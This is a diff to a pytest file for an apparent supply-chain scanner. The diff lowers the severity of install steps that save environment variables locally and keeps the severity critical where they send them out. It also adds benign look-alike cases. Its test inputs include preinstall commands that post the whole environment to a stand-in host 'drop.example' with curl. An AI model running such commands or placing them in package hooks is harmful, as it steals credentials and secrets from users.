@@ -64,9 +64,9 @@ class TestAlarm:
             "require('child_process').exec('env > /tmp/x');",
         ],
     )
-    def test_what_an_install_step_stores_is_critical_and_what_code_stores_is_high(self, source: str) -> None:
-        assert severities(installs(source)) == ["critical"]
-        assert severities(npm({"index.js": source})) == ["high"]
+    def test_what_an_install_step_stores_is_high_and_what_code_stores_is_medium(self, source: str) -> None:
+        assert severities(installs(source)) == ["high"]
+        assert severities(npm({"index.js": source})) == ["medium"]
 
     @pytest.mark.parametrize(
         "source",
@@ -78,26 +78,28 @@ class TestAlarm:
             "import os\nos.system('env > /tmp/x')\n",
         ],
     )
-    def test_what_a_setup_script_stores_is_critical(self, source: str) -> None:
-        assert severities(sdist({"setup.py": source})) == ["critical"]
+    def test_what_a_setup_script_stores_is_high(self, source: str) -> None:
+        assert severities(sdist({"setup.py": source})) == ["high"]
 
     @pytest.mark.parametrize(
-        "command",
+        ("command", "severity"),
         [
-            "env > /tmp/.e",
-            "printenv | tee /tmp/x",
-            "export -p > a.txt",
-            'curl -d "$(env)" https://drop.example/',
-            "env | curl -X POST --data-binary @- https://drop.example/",
+            ("env > /tmp/.e", "high"),
+            ("printenv | tee /tmp/x", "high"),
+            ("export -p > a.txt", "high"),
+            ('curl -d "$(env)" https://drop.example/', "critical"),
+            ("env | curl -X POST --data-binary @- https://drop.example/", "critical"),
+            ("env > x; curl -F f=@x https://drop.example/", "critical"),
+            ('curl -d "$(env)" $WHERE', "critical"),
         ],
     )
-    def test_the_ways_of_a_shell(self, command: str) -> None:
-        assert severities(npm(scripts={"preinstall": command})) == ["critical"]
+    def test_the_ways_of_a_shell(self, command: str, severity: str) -> None:
+        assert severities(npm(scripts={"preinstall": command})) == [severity]
 
     def test_a_file_without_a_known_path_is_a_file(self) -> None:
         source = "module.exports = (path) => require('fs').writeFileSync(path, JSON.stringify(process.env));"
         assert told(findings(environment_harvest, installs(source))) == [
-            "critical: its install step takes the whole environment and writes it to a file"
+            "high: its install step takes the whole environment and writes it to a file"
         ]
 
     def test_a_start_up_hook_is_critical(self) -> None:
@@ -148,6 +150,8 @@ class TestInnocentTwin:
             "import os\nSETTINGS = {k[4:]: v for k, v in os.environ.items() if k.startswith('APP_')}\n",
             "import os, requests\nrequests.get('https://api.example', headers={'x': os.environ['APP_KEY']})\n",
             "import os\nopen('/tmp/x', 'w').write(os.environ.get('HOME', ''))\n",
+            "import os\nos.execle('/usr/bin/man', 'man', 'x', os.environ)\n",
+            "import os\nos.posix_spawn('/bin/ls', ['ls'], os.environ)\n",
         ],
     )
     def test_ordinary_python(self, source: str) -> None:
@@ -163,6 +167,16 @@ function read(env, name) {
 module.exports = (command, args) => spawn(read(process.env, "COMSPEC") + command, ["/d", read(process.env, "PATH")].concat(args));
 """
         assert set(severities(installs(source))) <= {"medium"}
+
+    def test_a_setup_script_that_hands_paths_of_the_environment_to_a_compiler_is_no_warning(self) -> None:
+        """The shape of distutils: names are compared without case, and the paths of one variable are arguments."""
+        source = """
+import os, subprocess
+
+env = {key.lower(): value for key, value in os.environ.items()}
+subprocess.check_call(["cl.exe", "/I" + env.get("include", ""), "x.c"])
+"""
+        assert set(severities(sdist({"setup.py": source}))) <= {"medium"}
 
     def test_what_the_old_version_did_is_not_new(self) -> None:
         old = installs("require('fs').writeFileSync('/tmp/x', JSON.stringify(process.env));")
